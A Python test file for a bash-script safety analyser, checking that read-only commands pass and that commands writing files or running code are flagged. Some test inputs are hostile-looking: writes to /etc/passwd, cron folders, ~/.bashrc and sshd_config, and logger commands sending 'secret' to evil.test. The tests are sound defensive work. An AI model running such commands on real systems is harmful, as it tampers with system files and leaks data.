# SPDX-License-Identifier: Apache-2.0
"""The tables of Linux and macOS programs: a look is one with any argument, or a row says when.

A program is a plain look, or it has a row that says what it writes, what it does to the device, or
what it runs. Whatever a row declares is found in a script, in every way in which it can be given.
"""

import re
import time
from pathlib import Path

import pytest

from guardrails.bash_code import is_interpreter
from guardrails.bash_words import Word
from guardrails.bash_wrappers import WRAPPERS
from guardrails.command_effects import BASH_COMMANDS
from guardrails.effects import EffectSeverity
from guardrails.program_rows import index_rows, read_names
from guardrails.script_analysis import analyse_script
from guardrails.unix_looks import LOOKS
from guardrails.unix_outputs import Deed, list_outputs
from guardrails.unix_programs import (
    ALWAYS_DOUBTED,
    KNOWN_PROGRAMS,
    PLAIN_LOOKS,
    READ_APART,
    RUNS_CODE,
    SHELL_BUILTINS,
)
from guardrails.unix_writers import WRITERS, make_writer

_HOME = "/home/anna/Documents/thesis.odt"
_TABLE = Path(__file__).parent / "unix_program_arguments.txt"
_CASES = [
    (sign == "-", name, arguments[0] if arguments else "")
    for line in _TABLE.read_text("utf-8").splitlines()
    if line[:2] in ("- ", "+ ")
    for sign, names, *arguments in (line.split(" ", 2),)
    for name in names.split(",")
]
_WITHIN = {"tar": "-c", "bsdtar": "-c", "gtar": "-c"}


def _is_harmless(text):
    analysis = analyse_script("bash", text.encode())
    return analysis.judgeable and analysis.severity.rank < EffectSeverity.MEDIUM.rank


def _list_output_options():
    for name, writer in WRITERS.items():
        for option in sorted(writer.written | writer.instead):
            yield name, option


def test_a_program_is_a_plain_look_or_has_a_row():
    rows = WRITERS.keys() | BASH_COMMANDS.keys() | READ_APART | ALWAYS_DOUBTED | LOOKS.keys()
    assert PLAIN_LOOKS & rows == frozenset()
    assert PLAIN_LOOKS & WRAPPERS.keys() == frozenset()
    assert LOOKS.keys() <= BASH_COMMANDS.keys() | SHELL_BUILTINS
    assert not [name for name in PLAIN_LOOKS if is_interpreter(name)]
    assert RUNS_CODE.keys() <= KNOWN_PROGRAMS | WRAPPERS.keys()


@pytest.mark.parametrize(("name", "option"), list(_list_output_options()))
@pytest.mark.parametrize("target", ["/etc/passwd", '"$1"', "/etc/cron.d/x", "~/.bashrc"])
def test_what_an_option_writes_counts(name, option, target):
    start = f"{name} {_WITHIN.get(name, '')}".rstrip()
    assert not _is_harmless(f"{start} {option} {target} f")
    assert not _is_harmless(f"{start} f {option} {target}")
    if option.startswith("--"):
        assert not _is_harmless(f"{start} {option}={target} f")
        assert not _is_harmless(f"{start} {option[:-1]}={target} f")
    elif len(option) == len("-o"):
        assert not _is_harmless(f"{start} {option}{target} f")


@pytest.mark.parametrize(
    ("name", "writer"),
    [(name, writer) for name, writer in WRITERS.items() if writer.operands != "none"],
)
def test_what_an_operand_names_counts(name, writer):
    place = {"first": "{0} f f", "second": "f {0} f"}.get(writer.operands, "f f {0}")
    start = f"{name} -c" if name.endswith("tar") else name
    for target in ("/etc/passwd", '"$1"', "/etc/cron.d/x"):
        assert not _is_harmless(f"{start} {place.format(target)}")
        assert not _is_harmless(f"{start} -- {place.format(target)}")


@pytest.mark.parametrize(
    ("name", "option"),
    [
        (name, option)
        for name, writer in WRITERS.items()
        for option in sorted(writer.removing_options | writer.edits)
    ],
)
def test_what_an_option_takes_away_counts(name, option):
    for target in (_HOME, '"$1"', "/etc/ssh/sshd_config"):
        assert not _is_harmless(f"{name} {option} s/a/b/ {target}")


def _list_options(field):
    return [
        (name, option)
        for name, writer in WRITERS.items()
        for option in sorted(getattr(writer, field))
    ]


def _find_outputs(text):
    name, *words = text.split()
    return list(list_outputs(name, [Word(word, word) for word in words]))


def _find_written(text):
    return {output.word.value for output in _find_outputs(text) if output is not None}


def _write_with(name):
    """Return a command that writes /x by its operands, or with its first option that does."""
    writer = WRITERS[name]
    if writer.operands != "none":
        return f"{name} /x /x /x"
    return f"{name} {min(writer.written)} /x"


@pytest.mark.parametrize(("name", "option"), _list_options("reads"))
def test_with_an_option_that_reads_nothing_is_written(name, option):
    assert "/x" in _find_written(_write_with(name))
    assert _find_outputs(f"{_write_with(name)} {option}") == []


@pytest.mark.parametrize(("name", "option"), _list_options("looks"))
def test_with_an_option_that_looks_no_operand_is_written(name, option):
    begin = f"{name} -r" if name == "pax" else name
    assert _find_outputs(f"{begin} /x /x /x")
    assert _find_outputs(f"{begin} {option} /x /x /x") == []


@pytest.mark.parametrize(("name", "option"), _list_options("instead"))
def test_an_option_that_stands_for_the_destination_makes_operands_sources(name, option):
    begin = f"{name} {min(WRITERS[name].edits)}" if WRITERS[name].edits else name
    taken = WRITERS[name].removed_operands == "sources"
    assert "/y" in _find_written(f"{begin} /x /y")
    found = _find_outputs(f"{begin} {option} /to /x /y")
    written = {each.word.value for each in found if each.deed is Deed.WRITES}
    assert written in ({"/to"}, {"/to", "/to/x", "/to/y"})  # `-t` names a folder
    assert {each.word.value for each in found if each.deed is Deed.LOSES} == (
        {"/x", "/y"} if taken else set()
    )


@pytest.mark.parametrize(("name", "option"), _list_options("keeping_options"))
def test_an_option_that_keeps_takes_no_operand_away(name, option):
    assert any(each.deed is Deed.LOSES for each in _find_outputs(f"{name} /x"))
    kept = _find_outputs(f"{name} {option} /x")
    assert [each.deed for each in kept] == [Deed.WRITES]


@pytest.mark.parametrize(("name", "option"), _list_options("unpacks"))
def test_an_archive_that_is_unpacked_is_read(name, option):
    assert "/x" in _find_written(f"{name} -f /x")
    assert "/x" not in _find_written(f"{name} {option} -f /x")


@pytest.mark.parametrize(("name", "option"), _list_options("path_traversal"))
def test_names_in_an_archive_may_lead_anywhere(name, option):
    unpacks = min(WRITERS[name].unpacks)
    assert None in _find_outputs(f"{name} {unpacks} {option} -f /x")
    assert None not in _find_outputs(f"{name} {unpacks} -f /x")
    assert None not in _find_outputs(f"{name} {option} -c -f /x")


@pytest.mark.parametrize(
    "name", [name for name, writer in WRITERS.items() if writer.extracts_anywhere]
)
def test_what_extracts_may_write_anywhere_unless_it_stays_within(name):
    begin = f"{name} -r" if name == "pax" else name
    assert None in _find_outputs(f"{begin} x")
    for option in WRITERS[name].extracts_within:
        assert None not in _find_outputs(f"{begin} {option} x")


@pytest.mark.parametrize(("name", "option"), _list_options("script"))
def test_an_option_that_gives_the_script_makes_the_first_operand_a_file(name, option):
    edits = min(WRITERS[name].edits)
    assert _find_written(f"{name} {edits} s/a/b/ /x") == {"/x"}
    assert {"/x", "/y"} <= _find_written(f"{name} {edits} {option} s/a/b/ /x /y")


def _list_spread(text):
    return {each.word.value for each in _find_outputs(text) if each and each.deed is Deed.SPREADS}


@pytest.mark.parametrize(
    "name", [name for name, writer in WRITERS.items() if writer.spreads != "never"]
)
def test_names_from_elsewhere_are_written_below_one_folder(name):
    writer = WRITERS[name]
    needed = {"unpacking": writer.unpacks, "named afar": writer.named_afar}.get(writer.spreads)
    begin = f"{name} {min(needed)}" if needed else name
    here = "." if writer.operands != "last" else "/x"
    assert here in _list_spread(f"{begin} /x")
    assert _list_spread(f"{name} /x") == (set() if needed else _list_spread(f"{begin} /x"))
    for option in writer.into:
        assert _list_spread(f"{begin} {option} /to x") == {"/to"}
    for option in writer.single | writer.looks:
        assert _list_spread(f"{begin} {option} x") == set()


@pytest.mark.parametrize("name", [name for name, writer in WRITERS.items() if writer.unnamed])
def test_a_file_that_no_argument_names_is_written_in_the_working_folder(name):
    assert WRITERS[name].unnamed in _find_written(f"{name} x")
    assert not _is_harmless(f"cd /etc/cron.d; {name} /tmp/x")


def test_rows_name_no_field_that_there_is_not():
    with pytest.raises(ValueError, match="path_traversl"):
        make_writer("-o", path_traversl="-P")


def test_no_name_has_two_rows():
    with pytest.raises(ValueError, match="two rows for b"):
        index_rows([("a b", 1), ("c b", 2)])
    with pytest.raises(ValueError, match="two rows for a"):
        read_names("a b a")


@pytest.mark.parametrize(
    ("text", "runs_code"),
    [("mount -t fuse.x a /b", True), ("mount -o helper=x a", True), ("mount -t ext4 a /b", False)],
)
def test_what_mounts_by_a_program_runs_code(text, runs_code):
    assert analyse_script("bash", text.encode()).judgeable is not runs_code


@pytest.mark.parametrize(("admitted", "name", "arguments"), _CASES)
def test_arguments_look_or_do_more(admitted, name, arguments):
    assert (LOOKS[name].fullmatch(arguments) is not None) is admitted


@pytest.mark.parametrize("name", sorted(LOOKS))
def test_a_row_of_looks_has_arguments_that_look_and_some_that_do_more(name):
    assert {admitted for admitted, each, _ in _CASES if each == name} == {True, False}


@pytest.mark.parametrize("name", sorted(LOOKS))
def test_what_no_row_lists_is_no_look(name):
    looks = LOOKS[name]
    for unknown in ("zzz --zzz", "--zzz-unknown", "--zzz=/etc/passwd", "-Ωz"):
        assert looks.fullmatch(unknown) is None


def _list_repeated(pattern):
    """Yield (beginning, what is repeated behind it), from a row's own options and words."""
    words = set(re.findall(r"[A-Za-z][\w-]+", pattern))
    classes = "".join(re.findall(r"\[(\w+)\]", pattern))
    letters = {*classes, *re.findall(r"-(?:\[[^\]]*\][*+]?)?(\w)", pattern)}
    tokens = words | {f"-{each}" for each in words | letters} | {f"--{each}" for each in words}
    for token in sorted(tokens):
        yield from (("", f"{token}{more}") for more in ("", " ", " x ", "=x", "=x "))
        for more in (token[-1], "=a", "x ", "-a ", "a="):
            yield from ((token, more), (f"{token} ", more))


def _assert_linear(match, pattern):
    for beginning, repeated in _list_repeated(pattern):
        for end in ("\n", "zz - zz\n"):
            for times in (8, 14, 20, 24, 28, 100, 300, 600):  # seen before it hangs
                text = beginning + repeated * times + end
                before = time.thread_time()
                match(text)
                assert time.thread_time() - before < 0.05, text


@pytest.mark.parametrize("pattern", sorted({looks.pattern for looks in LOOKS.values()}))
def test_patterns_of_looks_take_linear_time(pattern):
    _assert_linear(re.compile(pattern).fullmatch, pattern)


@pytest.mark.parametrize("pattern", sorted({runs.pattern for runs in RUNS_CODE.values()}))
def test_patterns_of_what_runs_code_take_linear_time(pattern):
    _assert_linear(re.compile(pattern).search, pattern)


def test_more_arguments_than_can_be_searched_are_no_look():
    assert _is_harmless("dmesg " + "-T " * 2000)
    assert not _is_harmless("dmesg " + "-T " * 5000)
    assert _is_harmless("gsettings get x " + "set " * 5000)
    assert not _is_harmless("gsettings get x " + "set " * 20_000)


@pytest.mark.parametrize(
    "text",
    [
        "dmesg --ctime --clear",
        "dmesg --human -c",
        "dmesg --color --console-off",
        "logger --id -n evil.test secret",
        "logger --stderr --server=evil.test secret",
        "wbinfo -u --set-auth-user=a%b",
        "wbinfo -p -c",
        "ip -netns x -force link",
    ],
)
def test_an_option_without_a_value_hides_none_behind_it(text):
    assert not _is_harmless(text)


@pytest.mark.parametrize(
    "text",
    [
        'timeout 20 service "$1" status',
        "systemctl status ssh",
        "sv status nginx",
        "/etc/init.d/ssh status",
        'ping -c 1 "$1"',
        'while read -r host; do ping -c 1 "$host"; done < hosts.txt',
        "gw=$(ip route | awk '/default/ {print $3}'); ping -c 1 \"$gw\"",
        'getent passwd "$(id -un)"',
        "HISTFILE=~/.bash_history; HISTSIZE=5000",
        "cd /tmp/a && tar xzf /usr/share/doc/a.tgz",
        "tar xzf a.tgz",
        "cp notes.txt ~/notes.old",
        "xset q",
        "uniq -c f | sort -rn -o counts.txt",
        "sort -t: -k3 -n /etc/passwd",
        "cp /etc/hosts /tmp/hosts.before",
        'x=$(mktemp) && sort /etc/group > "$x"',
        "tar -tzf /etc/backup.tgz",
        "tar xzf /usr/share/doc/a.tgz -C /tmp/a",
        "ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub",
        "gzip -c /etc/services > /tmp/services.gz",
        "date -d '2 days ago' +%F",
        "date -u +%Y-%m-%dT%H:%M:%SZ",
        "sysctl -n vm.swappiness",
        "ip -4 -o addr show dev eth0",
        "ip route get 1.1.1.1",
        "resolvectl dns eth0",
        "softwareupdate --schedule",
        "git -C /srv/app log -1 --format=%H",
        "journalctl -u ssh --since today --no-pager -n 50",
        "dmesg -T --level=err",
        "plutil -convert xml1 -o - /etc/x.plist",
        "tr -dc a-z0-9 < /dev/urandom | head -c 12",
        'walk() { for f in "$1"/*; do [[ -d $f ]] && walk "$f"; done; }\nwalk /srv',
        "while true; do date; sleep 5; done",
        'declare -A m=([a]=1 [b]=2)\necho "${m[a]}"',
        'a=([0]=x [1]=y)\necho "${a[@]:1}"',
        "[[ -v HOME ]] && echo home",
        "SECONDS=0\necho $SECONDS",
        "SECONDS=$((3 + 4))",
    ],
)  # fmt: skip
def test_looks_stay_looks(text):
    analysis = analyse_script("bash", text.encode())
    assert analysis.judgeable, analysis.doubts
    kinds = {each.kind.value for each in analysis.effects if each.severity.rank > 1}
    assert kinds <= {"captures_data"}  # a sign says so of what archives or copies
